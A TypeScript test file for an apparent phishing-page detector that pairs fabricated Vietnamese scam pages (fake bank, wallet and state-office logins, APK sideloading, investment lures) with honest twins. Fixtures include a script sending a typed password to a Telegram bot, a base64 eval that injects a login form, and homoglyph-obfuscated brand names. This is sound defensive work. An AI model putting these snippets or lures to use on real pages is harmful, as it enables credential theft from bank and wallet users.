import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { PageFacts } from "../../../../src/core/evidence/page-facts.ts";
import { anyText } from "../../any-text.ts";
import { brands, field, page, verdictOn } from "./pages.ts";

const PASSWORD = field("Mật khẩu", { type: "password", hint: "mk" });
const OTP = field("Mã OTP", { hint: "otp" });
const CARD = [field("Số thẻ"), field("MM/YY"), field("CVV", { type: "password" })];

/** A bank's log-in page as a kit makes it, on a host that says nothing. */
const KIT: Partial<PageFacts> = {
  title: "VIB - Đăng nhập MyVIB",
  marks: [{ text: "MyVIB", linksTo: "" }],
  banner: "MyVIB",
  closing: "© 2026 Ngân hàng Quốc tế VIB",
  fields: [field("Tên đăng nhập"), PASSWORD, OTP],
  text: "Tài khoản sẽ bị khóa trong 24 giờ nếu không xác thực.",
};

const pairs: [string, PageFacts, "block" | "warn", PageFacts][] = [
  [
    "IDENTITY: a borrowed name in title, logo and copyright line",
    page("https://qx81.example.com/", KIT),
    "block",
    page("https://hoada.example.com/", {
      ...KIT,
      title: "Hoa Đá - Đăng nhập",
      marks: [{ text: "Hoa Đá", linksTo: "" }],
      banner: "Hoa Đá",
      closing: "© 2026 Hoa Đá. Thanh toán qua VIB",
    }),
  ],
  [
    "IDENTITY: the name of an office of the state that no brand has",
    page("https://hs-9912.example.com/", {
      title: "Viện kiểm sát nhân dân - Kê khai",
      banner: "VIỆN KIỂM SÁT NHÂN DÂN TỐI CAO",
      fields: [field("Số CCCD"), field("Mật khẩu ngân hàng điện tử", { type: "password" })],
      text: "Lệnh bắt tạm giam. Tuyệt đối giữ bí mật, không tiết lộ với người thân.",
    }),
    "block",
    page("https://tapchiluat.example.com/", {
      title: "Viện kiểm sát nhân dân cấp nào được ra lệnh bắt? - Tạp chí Luật",
      banner: "Tạp chí Luật",
      fields: [field("Email nhận bản tin", { type: "email" })],
      text: "Lệnh bắt tạm giam phải có phê chuẩn. Kẻ gian mạo danh dọa bắt, yêu cầu giữ bí mật.",
      paragraphs: 6,
      hasArticle: true,
    }),
  ],
  [
    "ASK: a wallet's twelve words",
    page("https://restore-w.example.com/", {
      title: "Trust Wallet – Restore",
      marks: [{ text: "Trust Wallet", linksTo: "" }],
      fields: Array.from({ length: 12 }, (_, i) => field(`${i + 1}.`)),
      text: "Your wallet has been limited. Restore access immediately.",
    }),
    "block",
    page("https://viblog.example.com/", {
      title: "Trust Wallet là gì?",
      text: "Cụm từ khôi phục gồm 12 từ. Không nhập cụm từ này vào website.",
      paragraphs: 8,
      hasArticle: true,
    }),
  ],
  [
    "ASK: a package to install past the phone's warnings",
    page("https://dl-77.example.com/", {
      title: "VNeID",
      marks: [{ text: "VNeID", linksTo: "" }],
      packages: ["https://dl-77.example.com/vneid.apk"],
      text: "Nếu máy báo nguồn không xác định, chọn Cho phép cài đặt.",
    }),
    "block",
    page("https://f-droid.example.com/", {
      title: "Trình ghi chú mở",
      packages: ["https://f-droid.example.com/notes.apk"],
      text: "Bản phát hành 2.1, mã nguồn mở.",
    }),
  ],
  [
    "SINK: what is typed goes to Telegram",
    page("https://a7.example.com/", {
      title: "Zalo",
      marks: [{ text: "Zalo", linksTo: "" }],
      fields: [field("Số điện thoại"), PASSWORD],
      script: "fetch('https://api.telegram.org/bot1:x/sendMessage',{method:'POST',body:p.value})",
    }),
    "block",
    page("https://docs-bot.example.com/", {
      title: "Gửi tin nhắn Telegram bằng JavaScript",
      fields: [field("chat_id"), field("Token")],
      script: "fetch('https://api.telegram.org/bot1:x/sendMessage',{method:'POST'})",
      codeLength: 900,
    }),
  ],
  [
    "CONCEAL: words broken up by unseen characters, and a password field in disguise",
    page("https://b2.example.com/", {
      title: "SHB‌ On​line",
      marks: [{ text: "S​HB", linksTo: "" }],
      fields: [field("Mật kh​ẩu", { masked: true })],
      text: "Đăn​g nhậ​p tà​i kh​oản củ​a bạ​n",
    }),
    "block",
    page("https://vandan.example.com/", {
      title: "Vạn Dân – Đăng nhập",
      marks: [{ text: "Vạn Dân", linksTo: "" }],
      fields: [field("Mã thẻ thư viện", { masked: true })],
      text: "Đăng nhập bạn đọc",
    }),
  ],
  [
    "CONCEAL: a form packed in base64",
    page("https://c3.example.com/", {
      title: "OneDrive",
      marks: [{ text: "Microsoft", linksTo: "" }],
      script: `eval(atob("${btoa(`document.body.innerHTML='<form action=/s><h2>Sign in</h2><input name=e placeholder=Email><label>Password<input name=p type=password></label><button>Next</button></form>'`)}"))`,
    }),
    "block",
    page("https://anhdep.example.com/", {
      title: "Ảnh đẹp",
      script: `img.src="data:image/png;base64,${"iVBORw0KGgoAAAANSUhEUgAAAAUA".repeat(9)}"`,
    }),
  ],
  [
    "TEXT: a guaranteed return together with a deposit",
    page("https://quykimcuong.example.com/", {
      title: "Quỹ Kim Cương – lợi nhuận 3%/ngày",
      fields: [field("Số điện thoại"), PASSWORD],
      text: "Cam kết lãi mỗi ngày, bảo toàn vốn 100%. Nạp tiền qua ngân hàng. Chỉ còn 5 suất. Nhắn Telegram để vào nhóm.",
    }),
    "warn",
    page("https://nganhangso.example.com/", {
      title: "Lãi suất tiết kiệm tháng này",
      fields: [field("Số tiền gửi"), field("Số điện thoại")],
      text: "Lãi suất 4,7%/năm. Nhận tư vấn miễn phí.",
    }),
  ],
  [
    "HOST: a page in the folders of somebody else's site",
    page("https://truongmam.edu.vn/wp-content/uploads/x/", {
      title: "DHL Express",
      marks: [{ text: "DHL", linksTo: "" }],
      fields: CARD,
      text: "Thanh toán phí",
    }),
    "block",
    page("https://cuahanghoa.vn/thanh-toan", {
      title: "Cửa hàng Hoa – Thanh toán",
      banner: "Cửa hàng Hoa",
      marks: [
        { text: "Visa", linksTo: "" },
        { text: "DHL", linksTo: "dhl.com" },
      ],
      fields: CARD,
      text: "Giao bằng DHL. Hóa đơn VAT. Đổi trả trong 7 ngày.",
    }),
  ],
];

describe("each family of evidence, and its honest twin", () => {
  test.each(pairs)("%s", (_, scam, level, twin) => {
    expect(verdictOn(scam)).toMatchObject({ level });
    expect(verdictOn(twin)).toMatchObject({ level: "none", reasons: [] });
  });
});

describe("the rule above the weights", () => {
  test("words alone never accuse, however many", () => {
    const words =
      "Lệnh bắt bị can, phong tỏa tài khoản trong 2 giờ. Trúng thưởng iPhone. Cam kết lãi 30%/tháng, bảo toàn vốn. Việc nhẹ lương cao. Giữ bí mật. Nộp phí giải ngân. Duyệt 100%, nợ xấu.";
    expect(verdictOn(page("https://a.example.com/", { text: words }))).toMatchObject({
      level: "none",
    });
  });

  test("a name and an ask without a third witness only warn", () => {
    const verdict = verdictOn(page("https://z1.example.com/", { ...KIT, text: "" }));
    expect(verdict.families).toEqual(["identity", "ask"]);
    expect(verdict.level).toBe("warn");
  });

  test("a name without an ask is nothing", () => {
    expect(verdictOn(page("https://z1.example.com/", { ...KIT, fields: [] }))).toMatchObject({
      level: "none",
    });
  });

  test("an ask under the site's own name is nothing", () => {
    const own = { title: "Moon Farm", banner: "Moon Farm", fields: [PASSWORD, OTP] };
    expect(verdictOn(page("https://moonfarm.example.com/", own))).toMatchObject({ level: "none" });
  });
});

test("official sites of all brands are never accused, whatever they ask", () => {
  for (const brand of brands.all) {
    for (const domain of brand.domains) {
      if (domain.includes("*") || brand.userContent.length > 0) continue;
      const { level } = verdictOn(
        page(`https://www.${domain}/`, { ...KIT, title: brand.name, banner: brand.name }),
      );
      expect([domain, level]).toEqual([domain, "none"]);
    }
  }
});

test.each([
  ["http://192.168.1.1/", "a router"],
  ["https://phuongx.hanoi.gov.vn/", "an office of the state"],
])("%s is left alone: %s", (address) => {
  expect(verdictOn(page(address, KIT)).level).toBe("none");
});

test("the verdict names the brand, its real site and the evidence", () => {
  const verdict = verdictOn(page("https://qx81.example.com/", KIT));
  expect(verdict).toMatchObject({ brand: "VIB", officialSite: "vib.com.vn" });
  expect(verdict.reasons).toContainEqual({ code: "page-identity", name: "VIB" });
  expect(verdict.reasons).toContainEqual(expect.objectContaining({ code: "page-asks" }));
});

describe("names written to be missed", () => {
  test.each([
    ["V I E T C O M B A N K"],
    ["Vietcоmbаnk"],
    ["Viet​com‌bank"],
    ["V1etc0mbank"],
    ["vietcombank-logo-2x"],
    ["NGÂN HÀNG NGOẠI THƯƠNG"],
    ["Ngan hang Ngoai thuong"],
  ])("%s", (name) => {
    const verdict = verdictOn(
      page("https://d4.example.com/", {
        title: name,
        marks: [{ text: name, linksTo: "" }],
        fields: [PASSWORD, OTP],
        text: "Tài khoản sẽ bị khóa",
      }),
    );
    expect(verdict).toMatchObject({ level: "block", brand: "Vietcombank" });
  });
});

test("an honest mention of many banks is no claim", () => {
  const verdict = verdictOn(
    page("https://sosanh.example.com/", {
      title: "So sánh Vietcombank, BIDV, Techcombank",
      headings: ["Vietcombank", "BIDV"],
      fields: [field("Số điện thoại"), field("Mật khẩu", { type: "password" })],
      text: "Vietcombank BIDV Techcombank VPBank ACB Sacombank lãi suất",
    }),
  );
  expect(verdict.level).toBe("none");
});

test("whatever a page holds, a verdict comes out", () => {
  const text = fc.oneof(anyText(), fc.constant("\ud800"), fc.string());
  fc.assert(
    fc.property(text, text, text, text, (title, label, script, words) => {
      const facts = page("https://e.example.com/", {
        title,
        banner: words,
        fields: [field(label, { type: "password" })],
        script,
        text: words,
        closing: title,
        marks: [{ text: label, linksTo: script }],
        forms: [{ action: script, around: words }],
      });
      expect(["none", "warn", "block"]).toContain(verdictOn(facts).level);
    }),
    { numRuns: 300 },
  );
});
